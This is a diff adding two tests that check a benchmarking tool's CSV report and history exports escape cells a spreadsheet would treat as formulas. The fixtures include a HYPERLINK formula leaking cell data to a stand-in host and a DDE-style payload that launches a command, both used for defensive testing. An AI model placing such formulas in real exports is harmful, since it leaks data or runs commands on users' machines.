@@ -182,3 +182,35 @@ def test_an_environment_entry_nothing_recorded_reads_none_not_null(tmp_path):
     cells = re.findall(r'<td class="mono">([^<]*)</td>', (tmp_path / "report.html").read_text())
     assert "null" not in cells and "None" not in cells
     assert "none" in cells and "12.4" in cells
+
+
+def test_report_csv_holds_no_formula_a_spreadsheet_would_run():
+    """A workload or failure message from an untrusted results.json starting with = + - @ was a live
+    formula in report.csv (`=HYPERLINK(...)` opened by a spreadsheet); it is text now, behind a '."""
+    import csv
+    import io
+    from dataclasses import replace
+
+    run = synthetic_run(["operator_rollout"], toggles=("eager", "compile"))
+    evil = '=HYPERLINK("https://evil.example/?"&A1,"x")'
+    run.cases[1] = replace(run.cases[1], spec=replace(run.cases[1].spec, workload="@SUM(1+1)*cmd|' /C calc'!A0"),
+                           status="failed", failure_class="error", message=evil)
+    rows = list(csv.DictReader(io.StringIO(registry()["csv"].render(ReportInput(run)).decode())))
+    cells = [v for row in rows for v in row.values() if v]
+    assert not [v for v in cells if v[0] in "=+-@\t\r"], cells
+    assert rows[1]["message"] == "'" + evil and rows[1]["workload"].startswith("'@SUM")
+    assert rows[0]["workload"] == "operator_rollout" and float(rows[0]["step_time_median_s"]) > 0
+
+
+def test_history_csv_holds_no_formula_either():
+    import csv
+    import io
+
+    from perfgate.history.show import render
+    from perfgate.history.store import Point
+
+    points = [Point("run-1", "a" * 40, '=HYPERLINK("https://evil.example","x")', "2026-01-01T00:00", "@m",
+                    -0.5, None, None, 3)]
+    rows = list(csv.DictReader(io.StringIO(render({"+w/smoke/eager/cpu": points}, "step_time", "csv"))))
+    assert rows[0]["branch"].startswith("'=") and rows[0]["machine_key"] == "'@m" and rows[0]["case"][:2] == "'+"
+    assert rows[0]["value"] == "-0.5"  # numbers stay numbers
